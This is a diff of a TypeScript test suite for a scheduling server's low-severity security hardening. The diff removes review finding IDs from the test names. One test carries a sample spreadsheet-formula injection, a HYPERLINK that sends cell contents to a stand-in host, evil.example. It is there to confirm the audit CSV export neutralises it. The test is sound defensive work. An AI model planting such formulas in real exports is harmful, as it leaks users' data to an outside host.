@@ -8,11 +8,10 @@ import { api, runCli, startServer, type TestServer } from '../support/server.js'
 /** U+FFFD, what a lone surrogate half becomes, percent-encoded as UTF-8. */
 const REPLACED = '%EF%BF%BD';
 
-// The low findings of the security review of 188718b, each as its probe: a lone surrogate anywhere text enters
-// (P-L1), formula cells in the audit CSV (P-L2), the API reference's server and long path parameters (P-L11 a, b),
-// a configuration that would publish every tenant's hosts (P-L11 c), and a production server: no Swagger UI unless
-// asked for, no console sign-in over plain http (P-L11 d, P-L4).
-describe('hardening: the lows of the security review', () => {
+// Low-severity hardening, each as its probe: a lone surrogate anywhere text enters, formula cells in the audit CSV,
+// the API reference's server and long path parameters, a configuration that would publish every tenant's hosts, and
+// a production server: no Swagger UI unless asked for, no console sign-in over plain http.
+describe('hardening: the low-severity probes', () => {
   let db: Awaited<ReturnType<typeof createTestDatabase>>;
   let server: TestServer;
   let rx: Receiver;
@@ -30,7 +29,7 @@ describe('hardening: the lows of the security review', () => {
     await db?.drop();
   });
 
-  describe('P-L1: a lone surrogate is made well-formed, never a 500 or a chain retried for ever', () => {
+  describe('a lone surrogate is made well-formed, never a 500 or a chain retried for ever', () => {
     it('in a trigger value that goes into a URL path', async () => {
       const t = await call('POST', '/v1/templates', {
         name: 'Order',
@@ -105,7 +104,7 @@ describe('hardening: the lows of the security review', () => {
     });
   });
 
-  it('P-L2: the audit CSV export neutralises a formula in every text cell', async () => {
+  it('the audit CSV export neutralises a formula in every text cell', async () => {
     const formula = '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Open report")';
     const made = await fetch(`${server.url}/v1/actions`, {
       method: 'POST',
@@ -134,7 +133,7 @@ describe('hardening: the lows of the security review', () => {
         expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
   });
 
-  it("P-L11 a: /openapi.json never names the request's Host as its server", async () => {
+  it("/openapi.json never names the request's Host as its server", async () => {
     const { port } = new URL(server.url);
     const body = await new Promise<string>((resolve, reject) => {
       const req = httpRequest(
@@ -154,7 +153,7 @@ describe('hardening: the lows of the security review', () => {
     expect(body).not.toContain('evil.example');
   });
 
-  it('P-L11 b: a path parameter over 2,048 characters answers the API error body without the path', async () => {
+  it('a path parameter over 2,048 characters answers the API error body without the path', async () => {
     const long = 'a'.repeat(3000);
     const res = await call('GET', `/v1/domains/${long}`);
     expect(res.status).toBe(400);
@@ -165,7 +164,7 @@ describe('hardening: the lows of the security review', () => {
     expect(JSON.stringify(res.body)).not.toContain('aaaa');
   });
 
-  it('P-L11 c: host labels on /metrics without a token are a configuration error at start', async () => {
+  it('host labels on /metrics without a token are a configuration error at start', async () => {
     const res = await runCli(['serve'], {
       SCHED_METRICS_HOST_LABELS: 'true',
       DATABASE_URL: 'postgres://x@127.0.0.1:1/x',
@@ -193,14 +192,14 @@ describe('hardening: the lows of the security review', () => {
       await prodDb?.drop();
     });
 
-    it('P-L11 d: serves no Swagger UI unless SCHED_DOCS asks; /openapi.json names SCHED_PUBLIC_URL', async () => {
+    it('serves no Swagger UI unless SCHED_DOCS asks; /openapi.json names SCHED_PUBLIC_URL', async () => {
       expect((await fetch(`${prod.url}/docs`)).status).toBe(404);
       expect((await fetch(`${prod.url}/docs/assets/swagger-ui-bundle.js`)).status).toBe(404);
       const doc = (await (await fetch(`${prod.url}/openapi.json`)).json()) as { servers: unknown };
       expect(doc.servers).toEqual([{ url: 'http://sched.example.com', description: 'This sched server' }]);
     });
 
-    it('P-L4: refuses a console sign-in over plain http; over https (a trusted proxy) it would be __Host-', async () => {
+    it('refuses a console sign-in over plain http; over https (a trusted proxy) it would be __Host-', async () => {
       const res = await fetch(`${prod.url}/console/session`, {
         method: 'POST',
         headers: { 'content-type': 'application/json' },
